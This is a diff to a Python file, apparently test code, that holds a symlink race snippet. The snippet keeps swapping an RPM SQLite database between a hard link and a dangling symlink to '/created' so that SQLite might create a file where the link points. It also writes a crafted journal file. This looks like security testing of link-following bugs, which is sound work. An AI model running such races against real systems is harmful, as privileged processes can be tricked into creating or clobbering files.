@@ -32,21 +32,16 @@ journal += end[0].to_bytes(4, "big") + name + end[1].to_bytes(4, "big") + end[2]
 open("rpmdb.sqlite-journal", "wb").write(journal)
 """
 
-# The database comes to be a link and a file again, all the time.
+# The database comes to be a link to nothing and a file again, all the time: SQLite would make what the link names.
 SWAP = """
-import shutil
-shutil.copy("rpmdb.sqlite", "/var/real")
-os.rename("rpmdb.sqlite-journal", "hidden-journal")
-shutil.copy("hidden-journal", "/var/journal")
+os.unlink("rpmdb.sqlite-journal")
+os.link("rpmdb.sqlite", "real")
 print("waiting", flush=True)
 while not os.path.exists("/var/stop"):
-    os.symlink("hidden", "new")
+    os.symlink("/created", "new")
     os.rename("new", "rpmdb.sqlite")
-    shutil.copy("/var/journal", "hidden-journal")
-    shutil.copy("/var/real", "new")
+    os.link("real", "new")
     os.rename("new", "rpmdb.sqlite")
-    if os.path.exists("hidden"):
-        os.unlink("hidden")
 """
 
 
